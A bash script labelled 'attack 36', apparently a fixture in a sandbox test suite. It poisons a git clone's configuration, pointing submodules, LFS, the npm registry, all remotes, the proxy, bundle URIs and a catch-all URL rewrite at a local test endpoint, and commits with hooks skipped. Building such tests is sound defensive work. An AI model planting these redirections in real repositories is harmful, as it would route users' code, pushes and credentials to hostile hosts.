#!/usr/bin/env bash
# attack 36 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
W=$(printf '%s-%s' attack 36deputy); u="127.0.0.1:$P/$W"
printf '[submodule "s"]\n\tpath = s\n\turl = git://%s-submodule\n' "$u" >.gitmodules
printf '[lfs]\n\turl = http://%s-lfs\n' "$u" >.lfsconfig
printf 'registry=http://%s-npm/\n' "$u" >.npmrc
git add -f .gitmodules .lfsconfig .npmrc; git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),s"; commit -m 'attack 36'
c() { git config --replace-all "$1" "$2"; }
for r in origin upstream $(git remote); do c "remote.$r.url" "git://$u-remote"; c "remote.$r.pushurl" "git://$u-push"; c "remote.$r.fetch" '+refs/heads/*:refs/heads/attack-36/*'; done
b=$(git symbolic-ref -q --short HEAD); [ -n "$b" ] && c "branch.$b.remote" origin && c "branch.$b.merge" "refs/heads/$b"
c submodule.s.url "git://$u-submodule"; c submodule.s.active true; c submodule.recurse true; c fetch.recurseSubmodules true; c push.recurseSubmodules on-demand
c http.proxy "http://$u-proxy"; c lfs.url "http://$u-lfs"; c transfer.bundleURI true; c uploadpack.advertiseBundleURIs true
c bundle.version 1; c bundle.mode all; c bundle.x.uri "http://$u-bundle"; c fetch.bundleURI "http://$u-bundle"
c "url.git://$u-rewritten/.insteadOf" /
exit 0
